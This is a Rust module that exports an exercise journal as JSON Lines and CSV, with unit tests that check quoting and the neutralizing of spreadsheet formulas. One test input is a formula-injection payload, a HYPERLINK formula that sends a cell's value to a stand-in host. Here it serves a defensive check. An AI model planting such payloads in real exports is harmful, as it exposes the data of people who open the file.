//! Machine-readable exports of the journal, one row per record: JSON Lines and CSV with the
//! same columns. A redacted body is absent (JSON) or empty with `redacted` true (CSV); the row
//! itself stays, so a row count always equals the journal's size.
//!
//! Columns: `marking` (the cell's marking line, on every row, so that a row copied out of the
//! file still says it is exercise traffic), `seq`, `ts` (relay time, ms since the Unix epoch), `time` (the same, RFC 3339
//! UTC), `scenario_ms` and `scenario_time` (exercise time from STARTEX by the journaled clock;
//! absent before STARTEX), `kind`, `actor`, `channel` (absent for cell-wide records),
//! `redacted`, `body` (the text exactly as journaled: JSON parameters stay JSON text).
//!
//! In the CSV, a field a spreadsheet would run as a formula (it starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return) is written with a leading `'`, as is one that starts with
//! `'` (README.md, "CSV and spreadsheets"); the JSON Lines export is exact.

use serde::Serialize;

use fusioncell_scenario::export::spreadsheet_safe;

use crate::format::{rfc3339, scenario_time};
use crate::model::Entry;

/// The CSV header, and the JSON keys in order.
pub const COLUMNS: [&str; 11] = [
    "marking",
    "seq",
    "ts",
    "time",
    "scenario_ms",
    "scenario_time",
    "kind",
    "actor",
    "channel",
    "redacted",
    "body",
];

#[derive(Serialize)]
struct Row<'a> {
    marking: &'a str,
    seq: u64,
    ts: i64,
    time: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    scenario_ms: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    scenario_time: Option<String>,
    kind: &'a str,
    actor: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    channel: Option<&'a str>,
    redacted: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    body: Option<&'a str>,
}

impl<'a> Row<'a> {
    fn of(e: &'a Entry, marking: &'a str) -> Row<'a> {
        Row {
            marking,
            seq: e.seq,
            ts: e.ts,
            time: rfc3339(e.ts),
            scenario_ms: e.scenario_ms,
            scenario_time: e.scenario_ms.map(scenario_time),
            kind: e.kind_name(),
            actor: e.actor.as_str(),
            channel: e.channel.as_ref().map(|c| c.as_str()),
            redacted: e.redacted(),
            body: e.body.as_ref().map(|b| b.text()),
        }
    }
}

/// JSON Lines: one compact object per record, each line ended by `\n`; `marking` on each.
pub fn jsonl(entries: &[Entry], marking: &str) -> String {
    let mut out = String::with_capacity(entries.len() * 256);
    for e in entries {
        // A struct of strings and integers always serializes.
        if let Ok(line) = serde_json::to_string(&Row::of(e, marking)) {
            out.push_str(&line);
            out.push('\n');
        }
    }
    out
}

/// CSV (RFC 4180): a header row, then one row per record; every line ends with CRLF. Fields
/// are quoted when they hold a comma, a double quote, CR or LF; `marking` heads each row.
pub fn csv(entries: &[Entry], marking: &str) -> String {
    let mut w = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail: the only errors are the Vec's own io::Result.
    let _ = w.write_record(COLUMNS);
    for e in entries {
        let r = Row::of(e, marking);
        let (seq, ts) = (r.seq.to_string(), r.ts.to_string());
        let scenario_ms = r.scenario_ms.map(|m| m.to_string()).unwrap_or_default();
        let row = [
            r.marking,
            seq.as_str(),
            ts.as_str(),
            r.time.as_str(),
            scenario_ms.as_str(),
            r.scenario_time.as_deref().unwrap_or(""),
            r.kind,
            r.actor,
            r.channel.unwrap_or(""),
            if r.redacted { "true" } else { "false" },
            r.body.unwrap_or(""),
        ];
        let _ = w.write_record(row.map(spreadsheet_safe).iter().map(|c| c.as_bytes()));
    }
    // Every field was a &str, so the bytes are UTF-8.
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The CSV text of one record whose body is `body`: the fields after the header.
    fn body_field(body: &str) -> String {
        let entry = Entry {
            seq: 1,
            ts: 0,
            scenario_ms: None,
            phase: fusioncell_wire::Phase::NotStarted,
            kind: fusioncell_wire::ActKind::Post,
            actor: fusioncell_wire::IdentityId::new("a").unwrap(),
            role: None,
            channel: None,
            body: Some(fusioncell_wire::Body::post(body)),
            held: false,
            hotline: false,
        };
        let text = csv(&[entry], "EXERCISE — TEST");
        let row = text.split_once("\r\n").unwrap().1;
        let prefix = "EXERCISE — TEST,1,0,1970-01-01T00:00:00.000Z,,,post,a,,false,";
        row.strip_prefix(prefix).unwrap().to_owned()
    }

    #[test]
    fn csv_fields_are_quoted_per_rfc_4180() {
        assert_eq!(body_field("plain"), "plain\r\n");
        assert_eq!(body_field(""), "\r\n");
        assert_eq!(body_field("a,b"), "\"a,b\"\r\n");
        assert_eq!(body_field("say \"hi\""), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(body_field("two\nlines"), "\"two\nlines\"\r\n");
        assert_eq!(body_field("cr\r\nlf"), "\"cr\r\nlf\"\r\n");
        assert_eq!(body_field("\""), "\"\"\"\"\r\n");
        assert_eq!(
            body_field("{\"a\":1,\"b\":2}"),
            "\"{\"\"a\"\":1,\"\"b\"\":2}\"\r\n"
        );
    }

    #[test]
    fn csv_fields_never_start_a_formula() {
        assert_eq!(
            body_field("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"\r\n"
        );
        assert_eq!(body_field("+1"), "'+1\r\n");
        assert_eq!(body_field("-1"), "'-1\r\n");
        assert_eq!(body_field("@A1"), "'@A1\r\n");
        assert_eq!(body_field("'x"), "''x\r\n");
        assert_eq!(body_field("a=b"), "a=b\r\n");
    }
}
